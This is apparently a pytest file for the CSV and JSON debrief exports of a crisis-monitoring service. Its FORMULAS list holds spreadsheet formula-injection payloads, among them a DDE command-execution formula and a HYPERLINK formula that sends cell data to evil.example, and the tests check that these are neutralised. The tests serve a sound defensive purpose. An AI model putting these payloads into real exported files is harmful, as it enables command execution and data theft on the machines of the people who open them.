import csv
import io
import json
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from functions.debrief.export import to_json
from functions.debrief.spreadsheet import COLUMNS, harmless, to_csv
from functions.debrief.summary import summarise
from functions.domain.business import Channel, Locale
from functions.domain.crisis import Merged, Quieted
from functions.domain.notification import Delivery
from functions.domain.opinion import Opinion, Silence
from functions.domain.told import WITHDRAWN
from tests.builders import NEGATIVE, a_mention
from tests.debrief_cases import (
    ATTACKS,
    CLOSED,
    EVENTS,
    MENTIONS,
    MISTRAL,
    NOTIFICATIONS,
    OPENED,
    lived,
    mention,
    opened,
    sent,
)

FORMULAS = (
    "=1+1",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u202f@x",
    "\ufeff=1",
    "\u200b=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹦1",
    '=HYPERLINK("https://evil.example/?"&A1,"clic")',
)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text):
    assert harmless(text).startswith("'")


def test_a_second_line_cannot_begin_a_formula():
    assert harmless("bonjour\r\n=1+1\u2028@x\x85+1") == "bonjour  =1+1 @x +1"


@pytest.mark.parametrize("text", ["bonjour", "a=b", "5 - 3", "", None, 12, "é"])
def test_an_ordinary_cell_is_left_alone(text):
    assert harmless(text) == ("" if text is None else str(text))


@given(st.text(max_size=40), st.sampled_from(list(Locale)))
def test_any_text_comes_back_in_its_own_cell_and_as_text(text, locale):
    rows = read(to_csv([mention(1, OPENED, text)], locale), locale)
    assert len(rows) == 2
    assert len(rows[1]) == len(COLUMNS)
    cell = rows[1][COLUMNS.index("text")]
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


def test_the_sheet_opens_with_its_accents_and_its_columns_by_a_double_click():
    body = to_csv(MENTIONS, Locale.FR)
    assert body.startswith(b"\xef\xbb\xbf")
    rows = read(body, Locale.FR)
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(MENTIONS) + 1


def test_what_stands_alone_says_why_in_the_language_of_the_sheet():
    alone = replace(NEGATIVE, unheard=Silence.SLOW)
    sheets = [to_csv([a_mention(sentiment=alone)], one) for one in Locale]
    french, english = (sheet.decode("utf-8-sig") for sheet in sheets)
    assert '"test, car Comprehend n’a pas répondu à temps"' in french
    assert '"test, because Comprehend did not answer in time"' in english


def test_no_export_names_an_author():
    crisis, log = lived(opened(), *EVENTS)
    summary = summarise(crisis, MISTRAL, MENTIONS, NOTIFICATIONS, log)
    for body in (to_json(summary, {}), to_csv(MENTIONS, Locale.FR)):
        assert MENTIONS[0].author.encode() not in body


def test_the_json_keeps_its_keys_and_its_times_are_utc():
    crisis, log = lived(opened(), *EVENTS)
    summary = summarise(crisis, MISTRAL, (*MENTIONS, *ATTACKS), NOTIFICATIONS, log)
    data = json.loads(to_json(summary, {Locale.FR: "Bilan."}))
    assert list(data) == [
        "schema",
        "business",
        "crisis",
        "story",
        "steps",
        "why",
        "totals",
        "bucket_seconds",
        "counts",
        "turning_points",
        "sources",
        "languages",
        "topics",
        "new_phrases",
        "audience",
        "weightiest",
        "own_voice",
        "around",
        "notifications",
    ]
    assert data["crisis"]["opened_at"] == "2026-11-21T18:52:00Z"
    assert data["crisis"]["id"] == "C7"
    assert data["crisis"]["duration_seconds"] == 19080
    assert data["why"]["window_seconds"] == 3600
    assert data["notifications"][0]["name"] == "Camille Durand"
    assert data["story"] == {"fr": "Bilan."}


def test_the_json_keeps_opinions_apart_and_says_what_is_missing():
    crisis, log = lived(opened(), *EVENTS)
    tone = Opinion("mention", 0.0, 1.0, 0.0)
    told = [
        replace(
            one,
            sentiment=replace(one.sentiment, unheard=Silence.BUDGET),
            opinions=(tone,),
        )
        for one in MENTIONS
    ]
    summary = summarise(crisis, MISTRAL, told, NOTIFICATIONS, log)
    row = json.loads(to_json(summary, {}))["weightiest"][0]
    assert row["second_opinion_missing"] == "budget"
    assert row["opinions"] == [
        {"who": "mention", "negative": 0.0, "neutral": 1.0, "positive": 0.0}
    ]


def test_what_never_happened_is_null_in_the_json():
    crisis, log = lived(opened(), Quieted(OPENED + timedelta(hours=1)))
    data = json.loads(to_json(summarise(crisis, MISTRAL, (), (), log), {}))
    assert data["steps"]["acknowledged_at"] is None
    assert data["steps"]["first_told_at"] is None
    assert data["crisis"]["duration_seconds"] == 3600
    assert data["sources"] == []


def test_the_json_says_which_crisis_took_it_over():
    crisis, log = lived(opened(), Merged(CLOSED, 8))
    data = json.loads(to_json(summarise(crisis, MISTRAL, (), (), log), {}))
    assert data["crisis"]["merged_into"] == "C8"
    assert data["turning_points"][-1]["turn"] == "merged"
    assert data["turning_points"][-1]["detail"] == "C8"


def test_a_message_withdrawn_is_no_failure_in_the_json():
    unsent = sent(
        "1.1", "helen", Channel.SMS, OPENED, Delivery.FAILED, failure=WITHDRAWN
    )
    crisis, log = lived(opened(), Quieted(CLOSED))
    data = json.loads(to_json(summarise(crisis, MISTRAL, (), [unsent], log), {}))
    (told,) = data["notifications"]
    assert (told["delivery"], told["failure"]) == ("withdrawn", None)


def test_half_a_character_does_not_stop_a_report():
    broken = mention(1, OPENED, "avant\ud800après")
    crisis, log = lived(opened(), Quieted(CLOSED))
    summary = summarise(crisis, MISTRAL, (broken,), (), log)
    assert "avant?après" in to_json(summary, {}).decode()
    assert "avant?après" in to_csv([broken], Locale.EN).decode()


def read(body: bytes, locale: Locale) -> list[list[str]]:
    delimiter = ";" if locale is Locale.FR else ","
    return list(
        csv.reader(
            io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=delimiter
        )
    )
